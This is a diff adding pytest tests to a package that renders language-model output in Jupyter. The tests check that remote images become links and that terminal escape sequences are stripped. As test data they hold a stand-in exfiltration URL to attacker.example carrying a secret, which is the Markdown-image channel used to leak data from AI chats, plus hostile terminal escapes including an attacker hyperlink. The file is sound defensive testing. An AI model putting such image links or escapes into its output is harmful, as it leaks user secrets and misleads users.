@@ -5,6 +5,7 @@ import pytest
 from markdown_it import MarkdownIt
 
 from jupyter_llm.core.markdown import safe_markdown
+from jupyter_llm.display.safe import safe_html
 
 
 def raw_html(markdown: str) -> list[str]:
@@ -153,3 +154,65 @@ def test_safe_html_keeps_tables_links_and_text():
         '<h2>Fruit</h2><table><tbody><tr><th colspan="2">A &amp; B</th></tr><tr><td style="color:red">1 &lt; 2</td>'
         '</tr></tbody></table><a href="https://example.org/a?b=1" target="_blank" rel="noopener noreferrer">link</a>'
         '<img src="data:image/png;base64,AAAA" alt="dot">')
+
+
+# -- remote images and terminal escapes ---------------------------------------------------
+
+EXFIL = "https://attacker.example/p.png?q=SECRET"
+INLINE = "data:image/png;base64,iVBORw0KGgo="
+
+
+def rendered_images(markdown: str) -> list[str]:
+    """The image sources a Markdown renderer (JupyterLab's, say) would load for ``markdown``."""
+    found, stack = [], list(MarkdownIt("commonmark").parse(markdown))
+    while stack:
+        token = stack.pop()
+        if token.type == "image":
+            found.append(token.attrGet("src"))
+        stack.extend(token.children or ())
+    return found
+
+
+@pytest.mark.parametrize("text", [
+    f"Look: ![chart]({EXFIL})",
+    f'![chart]({EXFIL} "title") and ![second](<{EXFIL}>)',
+    f"![chart][pixel]\n\n[pixel]: {EXFIL}",
+    f"- item ![x]({EXFIL})\n\n> ![quoted]({EXFIL})",
+])
+def test_a_remote_image_in_model_markdown_is_a_link_not_loaded(text):
+    safe = safe_markdown(text)
+    assert rendered_images(safe) == [] and EXFIL in safe, "shown as a link to the URL, never fetched"
+    assert rendered_images(safe_markdown(f"![ok]({INLINE}) {text}")) == [INLINE], "inline images stay"
+    assert "![x](https://a.example/i.png)" in safe_markdown("`![x](https://a.example/i.png)`"), "code is as written"
+
+
+def test_a_remote_image_in_model_html_is_a_link_and_inline_images_stay():
+    html = safe_html(f'<p>Chart: <img src="{EXFIL}" alt="chart"> <img src="{INLINE}" alt="dot"></p>')
+    assert f'<img src="{INLINE}"' in html and "<img src=\"https" not in html
+    assert 'href="https://attacker.example/p.png?q=SECRET"' in html and ">chart</a>" in html
+
+
+def test_remote_images_load_when_the_session_allows_them():
+    import jupyter_llm
+
+    session = jupyter_llm.session
+    session.remote_images = True
+    try:
+        assert rendered_images(safe_markdown(f"![chart]({EXFIL})")) == [EXFIL]
+        assert f'<img src="{EXFIL}"' in safe_html(f'<img src="{EXFIL}">')
+    finally:
+        session.remote_images = False
+    assert rendered_images(safe_markdown(f"![chart]({EXFIL})")) == []
+
+
+@pytest.mark.parametrize("escape", [
+    "\x1b[31m", "\x1b[0m", "\x1b]0;pwned\x07", "\x1b]8;;https://attacker.example\x1b\\", "\x1b[2J\x1b[H", "\x9b31m",
+    "\x07", "\x1bc",
+])
+def test_terminal_escape_sequences_never_reach_an_output(escape):
+    from jupyter_llm.display.html import answer_bundle, render_markdown
+
+    text = f"before {escape}red{escape} after <b>"
+    for out in (safe_markdown(text), safe_html(text), render_markdown(text), *answer_bundle(text).values()):
+        assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
+        assert "red" in out and "before" in out
